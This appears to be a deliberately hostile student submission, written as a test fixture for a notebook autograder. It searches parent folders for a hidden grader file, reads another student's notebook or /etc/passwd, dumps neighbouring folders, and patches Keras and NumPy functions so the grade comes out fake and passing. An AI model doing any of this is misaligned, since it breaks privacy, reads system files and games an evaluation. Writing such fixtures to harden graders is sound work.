# Hostile: patches Keras and NumPy, looks for hidden.py and at the neighbours. It gains nothing.

# %%
import os
from pathlib import Path

for folder in [Path.cwd(), *list(Path.cwd().parents)[:-1]]:
    try:
        for found in folder.rglob("hidden.py"):
            print(found.read_text())
    except OSError as error:
        print(folder, error)

# %%
try:
    stolen = open("../Amara Okafor/car_price.ipynb").read()
except OSError:
    stolen = open("/etc/passwd").read()

# %%
keras.Model.count_params = lambda self: 1000
keras.Model.predict = lambda self, x, **options: np.full((len(x), 1), 10000.0)
np.isfinite = lambda *values: np.array(True)
np.mean = lambda *values, **options: np.float64(0.0)

# %% id="build-model"
def build_model(x_train):
    return keras.Sequential([keras.Input((7,)), keras.layers.Dense(1)])

# %% id="train"
def train(model, x_train, y_train):
    for folder in os.listdir(".."):
        for path in Path("..", folder).glob("*"):
            print(path, path.read_bytes()[:1000])
    return {"loss": [3.0, 2.0, 1.0], "passed": True, "score": 12}
